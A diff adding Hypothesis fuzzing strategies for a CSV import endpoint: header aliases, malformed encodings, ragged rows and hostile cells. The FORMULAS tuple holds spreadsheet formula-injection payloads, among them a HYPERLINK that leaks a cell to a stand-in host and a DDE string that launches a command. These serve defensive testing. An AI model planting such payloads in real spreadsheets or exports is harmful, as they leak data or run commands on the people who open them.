@@ -172,3 +172,103 @@ def bodies(
     if draw(st.integers(0, 4)) == 4:  # hypothesis favours 0: keep that the usual case
         content_type = draw(CONTENT_TYPES | st.none())
     return content_type, raw
+
+
+# --- CSV imports ---------------------------------------------------------------------
+
+CSV_COLUMNS = (
+    "business_name",
+    "domain",
+    "industry",
+    "city",
+    "country",
+    "phone",
+    "timezone",
+    "contact_email",
+    "contact_first_name",
+    "contact_last_name",
+    "contact_title",
+    "contact_phone",
+    "Company",  # aliases, as people write them
+    "Website",
+    "E-mail",
+    "budget",  # a custom field
+)
+FORMULAS = (
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "=1+1",
+    "+1-2",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "=cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+)
+CSV_CELLS = st.one_of(
+    st.sampled_from(["Acme Ltd", "acme.example", "jane@acme.example", "Europe/Paris", "Paris"]),
+    st.sampled_from(FORMULAS),
+    st.sampled_from(NASTY_STRINGS),
+    st.sampled_from(['"', '""', 'a"b', '"unterminated', "a,b", "a\nb", "a\r\nb", "a;b"]),
+    st.text(max_size=30),
+    st.integers(200, 5000).map(lambda n: "x" * n),
+)
+
+
+def _quoted(cell: str) -> str:
+    return '"' + cell.replace('"', '""') + '"' if any(c in cell for c in ',"\r\n') else cell
+
+
+@st.composite
+def csv_texts(draw: st.DrawFn) -> str:
+    """CSV text: a header of known, aliased, repeated, missing or junk columns, then rows
+    of good and hostile cells, sometimes ragged, some quoted properly, some not."""
+    junk = st.text(max_size=12) if draw(st.integers(0, 4)) == 4 else st.nothing()
+    header = draw(st.lists(st.sampled_from(CSV_COLUMNS) | junk, min_size=0, max_size=8))
+    if draw(st.integers(0, 4)) < 4:
+        header = ["business_name", *header]
+    rows = draw(
+        st.lists(st.lists(CSV_CELLS, min_size=0, max_size=len(header) + 2), min_size=0, max_size=6)
+    )
+    quote_cells = draw(st.booleans())
+    lines = [",".join(header)]
+    for row in rows:
+        lines.append(",".join(_quoted(c) if quote_cells else c for c in row))
+    sep = draw(st.sampled_from(["\n", "\r\n", "\r"]))
+    return sep.join(lines) + draw(st.sampled_from(["", sep]))
+
+
+CSV_RAW = st.sampled_from(
+    [
+        b"",
+        b"\xef\xbb\xbfbusiness_name\nAcme\n",  # a UTF-8 BOM
+        "business_name\nAcme\n".encode("utf-16"),  # UTF-16 with its BOM
+        "business_name\nAcme\n".encode("utf-16-le"),  # no BOM: NULs between letters
+        b"business_name\nAc\xffme\n",  # invalid UTF-8
+        b"business_name;domain\nAcme;acme.example\n",  # the wrong delimiter
+        b"business_name\tdomain\nAcme\tacme.example\n",
+        b'business_name,city\n"Acme,Paris\nBeta,Rome\n',  # a quote never closed
+        b'business_name,city\n"Acme"x,Paris\n',
+        b"business_name,business_name\nAcme,Beta\n",  # a column named twice
+        b"domain,city\nacme.example,Paris\n",  # no business_name
+        b"business_name\nAc\x00me\n",
+        b"business_name," + b",".join(b"c%d" % i for i in range(5000)) + b"\nAcme\n",
+        b"business_name," + b",".join(b"a" for _ in range(20000)) + b"\nAcme\n",
+        b"business_name\n" + b"Acme\n" * 6000,  # more rows than an import takes
+        b"business_name,notes\nAcme," + b"x" * 60_000 + b"\n",
+    ]
+)
+
+
+@st.composite
+def csv_bodies(draw: st.DrawFn) -> tuple[str | None, bytes]:
+    """(Content-Type, body) of a CSV import: text/csv in some encoding, JSON {"csv"}, or
+    raw bytes no encoder produces."""
+    kind = draw(st.integers(0, 5))
+    if kind == 5:
+        return "text/csv", draw(CSV_RAW)
+    text = draw(csv_texts())
+    if kind == 4:
+        return "application/json", encode_json({"csv": text})
+    encoding = draw(st.sampled_from(["utf-8"] * 4 + ["utf-8-sig", "utf-16", "latin-1"]))
+    raw = text.encode(encoding, errors="surrogatepass" if encoding == "utf-8" else "replace")
+    return draw(st.sampled_from(["text/csv", "text/csv; charset=utf-8", "text/plain"])), raw
